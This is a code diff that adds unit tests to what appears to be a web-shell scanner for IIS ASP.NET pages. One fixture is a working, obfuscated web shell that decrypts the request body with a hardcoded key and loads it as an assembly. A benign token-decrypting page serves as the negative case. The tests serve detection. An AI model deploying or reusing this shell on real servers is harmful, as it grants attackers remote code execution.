@@ -136,3 +136,28 @@ void Page_Load() { Response.Write("<script>alert(1)</" + "script>");
     expect(severity('/inetpub/wwwroot/d.aspx', text)).toBe('critical');
   });
 });
+
+describe('ASP.NET pages that decrypt the request and load it as code', () => {
+  const shell = `<%@ Page Language="C#" %><%
+var key = System.Text.Encoding.ASCII.GetBytes("e45e329feb5d925b");
+var body = Request.BinaryRead(Request.ContentLength);
+var plain = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(key, key).TransformFinalBlock(body, 0, body.Length);
+var asm = typeof(System.Reflection.Assembly).GetMethod(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("TG9hZA==")), new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { plain });
+((System.Reflection.Assembly)asm).CreateInstance("U").Equals(this); %>`;
+
+  it('calls one a web shell, whatever the names', () => {
+    expect(judge('/inetpub/wwwroot/s.aspx', shell)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/decrypts what the request sends/),
+    });
+  });
+
+  it('leaves a page that decrypts a token from the request, and loads no code, below high', () => {
+    const text = `<%@ Page Language="C#" %><%
+var token = System.Convert.FromBase64String(Request.QueryString["t"]);
+var aes = System.Security.Cryptography.Aes.Create();
+var plain = aes.CreateDecryptor(Key, IV).TransformFinalBlock(token, 0, token.Length);
+UserName.Text = System.Text.Encoding.UTF8.GetString(plain); %>`;
+    expect(severity('/inetpub/wwwroot/login.aspx', text)).not.toMatch(/high|critical/);
+  });
+});
